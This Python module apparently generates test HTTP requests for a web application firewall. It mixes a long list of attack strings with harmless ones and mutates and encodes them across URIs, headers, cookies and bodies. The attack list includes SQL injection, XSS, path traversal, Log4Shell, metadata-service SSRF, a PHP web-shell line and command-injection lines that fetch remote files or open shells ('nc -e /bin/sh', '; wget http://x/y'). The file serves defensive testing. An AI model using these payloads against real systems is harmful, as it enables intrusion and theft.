"""Requests for a web application: attacks of all kinds and harmless ones of awkward shape, in every part of a request, and made up
variations of them. The words are the tests' own."""

from __future__ import annotations

import json
import random
from typing import Any
from urllib.parse import quote, quote_plus

Request = dict[str, Any]

ATTACKS = r"""
1' or '1'='1
1 UNION ALL SELECT user,password FROM users--
'; DROP TABLE users; --
1; exec xp_cmdshell('dir')
admin'/*
1 AND SLEEP(5)
benchmark(1000000,md5(1))
1' waitfor delay '0:0:5'--
select load_file('/etc/passwd')
" or ""="
x' AND 1=(SELECT COUNT(*) FROM tabname); --
{"$ne":null}
a[$gt]=1
1) order by 10#
/*!50000select*/ 1
<script>alert(document.cookie)</script>
<img src=x onerror=alert(1)>
"><svg/onload=alert(1)>
javascript:alert(1)
<a href="jav&#x09;ascript:alert(1)">x</a>
<iframe src="data:text/html;base64,PHNjcmlwdD4=">
<style>@import 'http://x/y.css';</style>
<meta http-equiv="refresh" content="0;url=x">
<object data="x" type="text/html">
<embed src=x.swf>
<link rel=stylesheet href=x>
<base href=//evil>
{{constructor.constructor('alert(1)')()}}
[][(![]+[])[+[]]]
+ADw-script+AD4-
window['alert'](1)
../../../../etc/passwd
..\..\windows\win.ini
/etc/shadow
....//....//etc/hosts
%c0%ae%c0%ae/
/.git/config
/.env
C:\boot.ini
http://192.0.2.66/shell.txt
https://evil.example/x.php?
ftp://10.0.0.1/a
php://filter/convert.base64-encode/resource=index.php
<?php system($_GET['c']); ?>
$_SERVER['DOCUMENT_ROOT']
phpinfo()
base64_decode('x')
O:8:"stdClass":1:{s:1:"a";i:1;}
allow_url_include=1
; cat /etc/passwd
| ls -la
`id`
$(curl http://x)
& ping -n 10 127.0.0.1
; wget http://x/y -O /tmp/y
|| whoami
powershell -enc AAAA
Get-Process | Out-File
cmd.exe /c dir
/bin/bash -i
() { :;}; echo vulnerable
nc -e /bin/sh
${jndi:ldap://x/a}
java.lang.Runtime.getRuntime().exec
org.apache.commons.collections.functors.InvokerTransformer
rO0ABXNyABFqYXZhLnV0aWwu
%{(#a=@java.lang.Runtime@getRuntime())}
new Function('return 1')()
_$$ND_FUNC$$_function(){}
module.exports = {}
String.fromCharCode(88)
\r\nSet-Cookie: a=b
\r\nContent-Length: 0
\nLocation: x
GET /x HTTP/1.1
<html><body>
)(uid=*))(|(uid=*
*)(objectClass=*
http://169.254.169.254/latest/meta-data/
file:///etc/passwd
.htaccess
wp-config.php
if /i not exist x
for /f %i in (x) do y
a%00b
%u0041%uff1c
\u003cscript\u003e
&lt;script&gt;
eval(atob('x'))
document.write('x')
.cookie; expires=1
/?*x/
/b*n/c?t x y
having 1=1
1e309
3.0.00738585072007e-308
union select from
sqlite_master
information_schema.tables
pg_sleep(1)
procedure analyse(
create function f() returns
merge into x using (
group by x having 1=1
""".strip("\n").split("\n")

HARMLESS = """
running shoes
42
john.o'neil@example.com
It's a great product; I'd buy it again (and again)!
C++ & Java — which one?
https://shop.example.com/a/b?c=d
2026-11-30T05:12:33Z
SELECT your seats
drop me a line
union station
#fff; background: red
<3 you
50% off
R&D department
price < 100 and > 10
{"a": [1, 2, 3]}
The quick brown fox, jumped over the lazy dog's back.
Müller Straße 5
日本語テキスト
a/b/c.html
file.tar.gz
+49 (30) 1234567
where are you from?
O'Reilly & Sons, Inc.
10:30-11:45
rgb(1,2,3)
en-US,en;q=0.9
eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_
YWxhZGRpbjpvcGVuc2VzYW1l
""".strip("\n").split("\n")

BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
AGENTS = [BROWSER, "curl/8.5", "sqlmap/1.7", "Mozilla/5.0 (compatible; Googlebot/2.1)", "", "python-requests/2.31", "nikto"]
SIGNS = " '\"<>;()/*%&=\\\t\n\r$|`{}#-+.,:[]^~?!@_aZ0\xe9"
PIECES = ["/**/", "\\", "''", "&#x3c;", "\\u0061", "\\x3c", "%u003c", "..", "//"]


def bytewise(text: str) -> str:
    """Each byte of the text's UTF-8 as a character."""
    return text.encode().decode("latin1")


def encoded(chance: random.Random, text: str) -> str:
    """In one of the ways in which arguments come."""
    data = text.encode()
    match chance.randrange(5):
        case 0:
            return quote(data, safe="")
        case 1:
            return quote_plus(data)
        case 2:
            return "".join(f"%{byte:02x}" for byte in data)
        case 3:
            return quote(quote(data, safe=""), safe="")
        case _:
            return quote(data, safe="!$'()*,;:@/?<>=[]{}|\\^`~\"")


def varied(chance: random.Random, text: str) -> str:
    """With some changes, as attackers and typists make them."""
    letters = list(text)
    for _ in range(chance.randrange(1, 4)):
        if not letters:
            break
        place = chance.randrange(len(letters))
        match chance.randrange(6):
            case 0:
                letters[place] = letters[place].swapcase()
            case 1:
                del letters[place]
            case 2:
                letters.insert(place, chance.choice(SIGNS))
            case 3:
                letters[place] = chance.choice(SIGNS)
            case 4:
                letters += chance.choice(ATTACKS + HARMLESS)
            case _:
                letters[place:place] = chance.choice(PIECES)
    return "".join(letters)


def form(name: str, text: str, file: str) -> str:
    lines = [
        "--XyZ", 'Content-Disposition: form-data; name="f"', "", text, "--XyZ",
        f'Content-Disposition: form-data; name="{name}"; filename="{file}"', "Content-Type: image/jpeg", "", "JFIF",
        "--XyZ--", "",
    ]  # fmt: skip
    return "\r\n".join(lines)


def placed(chance: random.Random, text: str, name: str = "q", agents: list[str] | None = None) -> Request:
    """A request that has the text somewhere."""
    headers = [["Host", "192.0.2.1" if chance.random() < 0.1 and agents is None else "shop.example.com"]]
    headers.append(["User-Agent", chance.choice(agents or AGENTS)])
    if agents or chance.random() < 0.9:
        headers.append(["Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"])
    request: Request = {"method": "GET", "uri": "/index.html", "headers": headers}
    kind: str | None = None
    match chance.randrange(11):
        case 0 | 1 | 2:
            request["uri"] = f"/a/b?{encoded(chance, name)}={encoded(chance, text)}&p=1"
        case 3:
            request["uri"] = f"/a?{encoded(chance, text)}=1"
        case 4:
            headers.append(["Cookie", bytewise(f"id=7; c={text.replace(';', '%3b')}; t=x")])
        case 5:
            headers.append([chance.choice(["Referer", "X-Custom", "X-Forwarded-For", "X-Filename"]), bytewise(text)])
        case 6:
            request["uri"] = "/" + quote(text.encode(), safe="/.'()*;:@!$<>").replace("%3F", "")
        case 7:
            kind = "application/x-www-form-urlencoded"
            request["body"] = f"a=1&{encoded(chance, name)}={encoded(chance, text)}&b"
        case 8:
            kind = "application/json"
            value = {"a": [1, text, None, True], "b": {"c d": name, text[:10]: 2.5}}
            request["body"] = bytewise(json.dumps(value, ensure_ascii=chance.random() < 0.5))
        case 9:
            kind = "multipart/form-data; boundary=XyZ"
            line = text.replace("\r", "").replace("\n", "")
            file = line.replace('"', "").replace("\\", "") if chance.random() < 0.5 else "photo.jpg"
            request["body"] = bytewise(form("up", line, file))
        case _:
            kind = chance.choice(["text/plain", "application/octet-stream"])
            request["body"] = bytewise(text)
    if kind:
        request["method"] = "POST"
        headers.extend([["Content-Type", kind], ["Content-Length", str(len(request["body"]))]])
    if agents is None and chance.random() < 0.05:
        request["version"] = chance.choice(["1.0", "2.0"])
    if agents is None and chance.random() < 0.03:
        request["method"] = chance.choice(["TRACE", "DELETE", "OPTIONS", "HEAD"])
    for header in headers:
        header[1] = header[1].replace("\r", " ").replace("\n", " ").strip()
    return request


def requests(seed: int, count: int) -> list[Request]:
    """All attacks and all harmless texts, and variations of them until there are so many."""
    chance = random.Random(seed)
    made = [placed(chance, text) for text in ATTACKS + HARMLESS]
    while len(made) < count:
        text = chance.choice(ATTACKS * 2 + HARMLESS)
        text = varied(chance, text) if chance.random() < 0.8 else text
        made.append(placed(chance, text, varied(chance, "q") if chance.random() < 0.2 else "q"))
    # A NUL ends what libmodsecurity looks at: see test_core_rule_set.py.
    return [request for request in made if not any(nul in json.dumps(request) for nul in ("%00", "%2500", "u0000"))]
